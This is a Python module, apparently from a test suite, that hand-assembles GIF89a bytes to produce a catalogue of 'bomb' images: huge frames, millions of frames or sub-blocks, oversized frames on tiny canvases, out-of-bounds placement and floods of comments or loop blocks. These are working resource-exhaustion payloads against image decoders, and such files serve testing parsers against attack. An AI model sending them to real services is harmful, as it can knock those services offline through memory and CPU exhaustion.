"""GIFs. Source: GIF89a Specification, https://www.w3.org/Graphics/GIF/spec-gif89a.txt"""

import struct

from PIL import Image

from bombs.parts import HALF_SIDE, encoded, noise

_NETSCAPE = b"!\xff\x0bNETSCAPE2.0\x03\1\0\0\0"
_PALETTE = bytes(range(256)) * 3
# A pixel of color 0: clear, 0, end.
_ONE_PIXEL = b"\x02\x02\x44\x01\0"


def head(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0xF7, 0, 0) + _PALETTE


def control(dispose: int = 0, transparent: int | None = None, delay: int = 5) -> bytes:
    flags = dispose << 2 | (transparent is not None)
    return b"!\xf9\x04" + struct.pack("<BHBB", flags, delay, transparent or 0, 0)


def descriptor(width: int, height: int, left: int = 0, top: int = 0, *, interlaced: bool = False) -> bytes:
    return b"," + struct.pack("<HHHHB", left, top, width, height, 0x40 * interlaced)


def pixels(width: int, height: int, image: Image.Image | None = None) -> bytes:
    """A frame's compressed pixels, black if no image is given."""
    data = encoded(image or Image.new("L", (width, height)), "GIF", interlace=0)
    # Behind the only frame's descriptor: Pillow writes no palette of its own there.
    start = data.rindex(b"," + struct.pack("<HHHH", 0, 0, width, height)) + 10
    return data[start:-1]


def moving(
    width: int,
    height: int,
    frames: int,
    *,
    dispose: int = 0,
    transparent: int | None = None,
    canvas: tuple[int, int] | None = None,
    place: tuple[int, int] = (0, 0),
    image: Image.Image | None = None,
    interlaced: bool = False,
) -> bytes:
    """Frames that are all the same."""
    frame = control(dispose, transparent) + descriptor(width, height, *place, interlaced=interlaced)
    frame += pixels(width, height, image)
    return head(*(canvas or (width, height))) + _NETSCAPE + frame * frames + b";"


def tiny_frames(frames: int, side: int = 1) -> bytes:
    return head(side, side) + (descriptor(1, 1) + _ONE_PIXEL) * frames + b";"


def _noise(side: int) -> Image.Image:
    return noise(side, "L")


BOMBS = {
    "GIF, 99 MP": lambda: moving(9_950, 9_950, 1),
    "GIF, 99 MP, interlaced": lambda: moving(9_950, 9_950, 1, interlaced=True),
    "GIF, 30 MP of noise": lambda: moving(5_500, 5_500, 1, image=_noise(5_500)),
    "GIF, a canvas of 99 MP and a frame of 1 pixel": lambda: moving(1, 1, 1, canvas=(9_950, 9_950)),
    "GIF, 2 frames of 9,999 × 9,999": lambda: moving(9_999, 9_999, 2),
    "GIF, 2 frames of 40 MP": lambda: moving(HALF_SIDE, HALF_SIDE, 2),
    "GIF, 5 frames of 40 MP, each undone": lambda: moving(HALF_SIDE, HALF_SIDE, 5, dispose=3),
    "GIF, 5 frames of 40 MP, transparent": lambda: moving(HALF_SIDE, HALF_SIDE, 5, transparent=0, dispose=2),
    "GIF, 190 frames of 1 MP": lambda: moving(1_020, 1_020, 190),
    "GIF, 30 frames of 1 MP of noise": lambda: moving(1_020, 1_020, 30, image=_noise(1_020)),
    "GIF, 3,000 frames": lambda: moving(256, 256, 3_000),
    "GIF, 3,000 frames, each undone": lambda: moving(256, 256, 3_000, dispose=3, transparent=0),
    "GIF, 700 frames of noise": lambda: moving(256, 256, 700, image=_noise(256), dispose=2),
    "GIF, 3,000 frames of 16,383 × 4": lambda: moving(16_383, 4, 3_000),
    "GIF, 1,000,000 frames": lambda: tiny_frames(1_000_000),
    "GIF, 4,000 frames of 1 pixel": lambda: tiny_frames(4_000),
    "GIF, 3 frames of 65,535 × 65,535 on a canvas of 1 × 1": lambda: (
        head(1, 1) + (descriptor(65_535, 65_535) + _ONE_PIXEL) * 3 + b";"
    ),
    "GIF, frames of 81 MP on a canvas of 10 × 10": lambda: moving(9_000, 9_000, 3, canvas=(10, 10)),
    "GIF, a frame at 65,535, 65,535": lambda: moving(9, 9, 2, canvas=(9, 9), place=(65_535, 65_535)),
    "GIF, 24,000,000 sub-blocks": lambda: tiny_frames(1)[:-1] + b"!\xfe" + b"\1a" * 24_000_000 + b"\0;",
    "GIF, 190,000 sub-blocks of a frame": lambda: (
        head(1, 1) + descriptor(1, 1) + b"\x02" + b"\1\0" * 190_000 + b"\0;"
    ),
    "GIF, 10,000,000 extensions": lambda: tiny_frames(1)[:-1] + b"!\xfe\0" * 10_000_000 + b";",
    "GIF, 10,000,000 loops": lambda: head(1, 1) + _NETSCAPE * 2_500_000 + tiny_frames(1)[781:],
    "GIF, 49 MB of comments": lambda: (
        tiny_frames(1)[:-1] + (b"!\xfe" + (b"\xff" + b"x" * 255) * 999 + b"\0") * 191
    ),
}
